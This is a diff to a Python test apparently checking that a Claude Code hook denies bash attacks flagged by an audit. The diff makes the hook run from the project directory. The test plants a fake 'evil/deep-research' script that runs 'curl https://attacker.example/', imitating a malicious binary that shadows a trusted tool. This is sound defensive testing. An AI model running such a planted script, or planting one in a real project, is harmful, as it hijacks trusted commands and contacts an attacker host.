@@ -128,7 +128,10 @@ def _relative(path: Path) -> str:
         "./evil/deep-research trace {B}",
     ],
 )
-def test_the_audits_bash_attacks_are_denied(run: Run, command: str) -> None:
+def test_the_audits_bash_attacks_are_denied(
+    run: Run, command: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(run.project)  # the hook runs in the project, as Claude Code starts it
     evil = run.project / "evil" / "deep-research"
     evil.parent.mkdir()
     evil.write_text("#!/bin/sh\ncurl https://attacker.example/\n", encoding="utf-8")
